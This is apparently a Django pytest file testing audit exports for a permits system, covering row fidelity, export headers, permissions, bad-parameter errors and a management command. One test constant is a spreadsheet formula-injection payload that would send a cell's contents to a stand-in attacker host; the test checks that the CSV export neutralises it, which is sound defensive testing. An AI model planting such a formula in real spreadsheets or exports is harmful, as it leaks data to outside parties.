"""Audit exports (issue 13): rows equal to the database, the header (filter, time, exporter,
chain head), formula injection neutralised, who may export, bad filters as a 400 naming the
field, and the management command writing the same rows as the page."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from django.test import Client
from django.urls import reverse

from permits import exports
from permits.models import Decision, Party
from tests.factories import ApplicationFactory, UserFactory
from tests.permits.test_audit_search import partial_grant
from tests.workflow_helpers import advance
from workflow import chain
from workflow.models import TransitionRecord

pytestmark = pytest.mark.django_db

HEADER_LINES = 5
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def people(applicant, case_manager, head):
    return {"applicant": applicant, "case_manager": case_manager, "head": head}


def make(organisation, people, state, **fields):
    application = ApplicationFactory(
        organisation=organisation, created_by=people["applicant"], **fields
    )
    return advance(application, state, **people)


@pytest.fixture
def files(organisation, people):
    return [
        make(organisation, people, "issued"),
        make(organisation, people, "refused", kind="import"),
        make(organisation, people, "information_requested"),
        partial_grant(organisation, people),
    ]


def export(user, **params):
    return client_for(user).get(reverse("permits:search_export"), params)


def body(response) -> str:
    assert response.streaming
    return b"".join(response.streaming_content).decode("utf-8")


def csv_rows(text: str) -> tuple[list[str], list[dict[str, str]]]:
    lines = text.splitlines(keepends=True)
    head = [line.rstrip("\n") for line in lines[:HEADER_LINES]]
    return head, list(csv.DictReader(io.StringIO("".join(lines[HEADER_LINES:]))))


def jsonl(text: str) -> tuple[dict, list[dict]]:
    objects = [json.loads(line) for line in text.splitlines()]
    return objects[0]["export"], objects[1:]


def test_history_csv_has_every_record_once_with_its_fields(files, auditor):
    response = export(auditor, dataset="history", format="csv")

    _head, rows = csv_rows(body(response))
    records = TransitionRecord.objects.filter(application__in=files).order_by("id")
    assert [int(row["id"]) for row in rows] == list(records.values_list("id", flat=True))
    for row, record in zip(rows, records.select_related("actor", "application"), strict=True):
        assert row["application_id"] == str(record.application_id)
        assert row["reference"] == record.application.reference
        assert row["transition"] == record.transition
        assert (row["source_state"], row["target_state"]) == (
            record.source_state,
            record.target_state,
        )
        assert row["actor"] == (record.actor.username if record.actor else "")
        assert row["actor_role"] == record.actor_role
        assert row["comment"] == exports.neutralise(record.comment)
        assert json.loads(row["payload"]) == record.payload
        assert row["created_at"] == exports.csv_cell(record.created_at)
        assert (row["seq"], row["prev_hash"], row["record_hash"]) == (
            str(record.seq),
            record.prev_hash,
            record.record_hash,
        )
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]


def test_history_jsonl_rows_equal_the_database(files, auditor):
    _head, rows = jsonl(body(export(auditor, dataset="history", format="jsonl")))

    records = {
        r["id"]: r
        for r in TransitionRecord.objects.filter(application__in=files).values(
            "id", "transition", "comment", "payload", "actor_role"
        )
    }
    assert len(rows) == len(records) == len({row["id"] for row in rows})
    for row in rows:
        record = records[row["id"]]
        assert (row["transition"], row["comment"], row["payload"], row["actor_role"]) == (
            record["transition"],
            record["comment"],
            record["payload"],
            record["actor_role"],
        )


def test_the_header_records_filter_time_exporter_and_chain_head(files, auditor):
    text = body(export(auditor, dataset="history", format="csv", kind="import", page="2"))
    head, rows = csv_rows(text)
    meta, _ = jsonl(body(export(auditor, dataset="history", format="jsonl", kind="import")))

    label = chain.chain_head().label
    assert head[0] == "# dataset: history"
    assert head[1] == "# filter: kind=import"
    assert head[2].startswith("# exported_at: ") and head[2].endswith("(Europe/Brussels)")
    assert head[3] == "# exporter: auditor"
    assert head[4] == f"# chain_head: {label}"
    assert (meta["filter"], meta["exporter"], meta["chain_head"]) == (
        {"kind": ["import"]},
        "auditor",
        label,
    )
    assert meta["exported_at"].endswith(("+01:00", "+02:00"))
    assert meta["chain"]["record_id"] == chain.chain_head().record_id
    assert meta["chain"]["record_hash"] == chain.chain_head().record_hash != ""
    imports = {str(f.pk) for f in files if f.kind == "import"}
    assert {row["application_id"] for row in rows} == imports


def test_formula_injection_is_neutralised_in_csv(files, auditor):
    Party.objects.filter(application=files[0], role="end_user").update(name=INJECTION)

    _head, rows = csv_rows(body(export(auditor, dataset="applications", format="csv")))

    row = next(r for r in rows if r["id"] == str(files[0].pk))
    assert row["end_user"] == "'" + INJECTION
    assert row["declared_value_eur"] == "250000.00"
    assert exports.csv_cell(Decimal("-5.00")) == Decimal("-5.00")
    assert exports.csv_cell("-5") == "'-5"
    assert exports.csv_cell("\tx") == "'\tx"


def test_jsonl_keeps_values_exactly(files, auditor):
    Party.objects.filter(application=files[0], role="end_user").update(name=INJECTION)

    _head, rows = jsonl(body(export(auditor, dataset="applications", format="jsonl")))

    row = next(r for r in rows if r["id"] == files[0].pk)
    assert row["end_user"] == INJECTION
    assert row["declared_value_eur"] == "250000.00"


def test_applications_export_states_outcome_partial_and_people(files, auditor, people):
    _head, rows = jsonl(body(export(auditor, dataset="applications", format="jsonl")))

    by_id = {row["id"]: row for row in rows}
    partial = by_id[files[3].pk]
    assert (partial["outcome"], partial["partial"], partial["criteria"]) == ("granted", True, ["6"])
    assert partial["decided_by"] == people["head"].username
    assert partial["case_manager"] == people["case_manager"].username
    assert by_id[files[2].pk]["outcome"] is None
    assert len(rows) == len(files)


def test_decisions_export_has_one_row_per_goods_line(files, auditor):
    _head, rows = jsonl(body(export(auditor, dataset="decisions", format="jsonl")))

    expected = [
        (d.pk, line["goods_item"], line["outcome"])
        for d in Decision.objects.order_by("id")
        for line in d.lines
    ]
    assert [(r["decision_id"], r["goods_item_id"], r["line_outcome"]) for r in rows] == expected
    refused_line = next(r for r in rows if r["line_outcome"] == "refuse" and r["partial"])
    assert refused_line["line_criteria"] == ["6"]
    assert refused_line["currency"] == "EUR"
    assert refused_line["reference"] == files[3].reference


@pytest.mark.parametrize("role", ["applicant", "case_manager"])
def test_applicants_and_case_managers_may_not_export(role, files):
    user = UserFactory(username=f"someone_{role}", roles=[role])

    response = export(user, dataset="history", format="csv")

    assert response.status_code == 403
    assert not response.streaming


def test_the_head_of_unit_may_export(files, head):
    assert export(head, dataset="applications", format="csv").status_code == 200


def test_anonymous_is_sent_to_log_in():
    response = Client().get(reverse("permits:search_export"), {"dataset": "history"})
    assert response.status_code == 302


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"dataset": "history", "format": "csv", "value_min": "abc"}, "value_min"),
        ({"dataset": "history", "format": "csv", "submitted_after": "soon"}, "submitted_after"),
        ({"dataset": "history", "format": "csv", "entry": "ML1;--"}, "entry"),
        ({"dataset": "passwords", "format": "csv"}, "dataset"),
        ({"dataset": "history", "format": "xlsx"}, "format"),
        ({"dataset": "history"}, "format"),
    ],
)
def test_a_bad_parameter_is_a_400_naming_it(params, field, auditor):
    response = export(auditor, **params)

    assert response.status_code == 400
    assert not response.streaming
    assert f"<code>{field}</code>".encode() in response.content
    assert b"Nothing was exported" in response.content


def test_the_search_page_offers_the_exports_with_its_filter(files, auditor, case_manager):
    page = client_for(auditor).get(reverse("permits:search"), {"kind": "import", "page": "1"})
    cm_page = client_for(case_manager).get(reverse("permits:search"))

    url = reverse("permits:search_export") + "?dataset=history&amp;format=jsonl&amp;kind=import"
    assert url.encode() in page.content
    assert b"data-export-link" in page.content
    assert b"data-export-link" not in cm_page.content


def test_the_command_writes_the_same_rows_as_the_page(files, auditor, tmp_path):
    for fmt in ("csv", "jsonl"):
        web = body(export(auditor, dataset="history", format=fmt, kind="export"))
        out = tmp_path / f"history.{fmt}"
        call_command(
            "export_audit",
            dataset="history",
            format=fmt,
            filter=["kind=export"],
            user="auditor",
            out=out,
        )
        written = out.read_text(encoding="utf-8").splitlines()
        skip = HEADER_LINES if fmt == "csv" else 1
        assert len(written) > skip + 1
        assert written[skip:] == web.splitlines()[skip:]
        if fmt == "csv":  # the same filter and exporter in the header
            assert [written[1], written[3]] == [web.splitlines()[1], web.splitlines()[3]]


def test_the_command_writes_to_standard_output_as_the_operator(files):
    stdout = io.StringIO()
    call_command("export_audit", dataset="applications", format="jsonl", stdout=stdout)

    meta, rows = jsonl(stdout.getvalue())
    assert "manage.py export_audit" in meta["exporter"]
    assert {row["id"] for row in rows} == {f.pk for f in files}


@pytest.mark.parametrize(
    "arguments",
    [
        {"filter": ["value_min=abc"]},
        {"filter": ["colour=blue"]},
        {"filter": ["kind"]},
        {"user": "applicant"},
    ],
)
def test_the_command_refuses_a_bad_filter_or_user(arguments, applicant):
    with pytest.raises(CommandError):
        call_command(
            "export_audit", dataset="history", format="csv", stdout=io.StringIO(), **arguments
        )


def test_each_export_is_logged_with_its_exporter_and_filter(files, auditor, caplog):
    with caplog.at_level("INFO", logger="permits.exports"):
        body(export(auditor, dataset="decisions", format="csv", outcome="partial"))

    [message] = [r.getMessage() for r in caplog.records if r.name == "permits.exports"]
    assert "by auditor" in message and "decisions as csv" in message
    assert "outcome=partial" in message
